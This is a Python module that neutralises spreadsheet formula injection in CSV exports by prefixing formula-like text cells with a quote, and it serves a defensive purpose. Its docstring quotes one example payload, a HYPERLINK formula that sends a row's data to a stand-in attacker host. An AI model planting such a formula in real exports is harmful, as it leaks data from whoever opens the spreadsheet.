"""CSV that is safe to open in a spreadsheet.

Staff open exports in Excel or Google Sheets, and some cells hold what providers typed (names,
bios, ticket subjects). A cell that begins with `=`, `+`, `-` or `@` (or a tab or carriage
return, which some spreadsheets skip before reading a formula) is run as a formula:
`=HYPERLINK("https://evil.example/?"&A1, "Open")` leaks the row it sits in. OWASP's "CSV
Injection" advice: prefix such a cell with a single quote, which spreadsheets show as text.
Only text cells are touched, so numbers (a negative count, days left) stay numbers.
"""

import csv
from collections.abc import Iterable
from typing import Any

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


def neutralise(value: Any) -> Any:
    """The cell as a spreadsheet reads it as text: a formula-looking string gets a leading '."""
    if isinstance(value, str) and value.startswith(FORMULA_STARTS):
        return f"'{value}"
    return value


class SafeWriter:
    """csv.writer's writerow/writerows, with every text cell neutralised."""

    def __init__(self, stream, **kwargs):
        self._writer = csv.writer(stream, **kwargs)

    def writerow(self, row: Iterable[Any]):
        return self._writer.writerow([neutralise(cell) for cell in row])

    def writerows(self, rows: Iterable[Iterable[Any]]) -> None:
        for row in rows:
            self.writerow(row)


def safe_writer(stream, **kwargs) -> SafeWriter:
    """Use instead of csv.writer for anything a person may open in a spreadsheet."""
    return SafeWriter(stream, **kwargs)
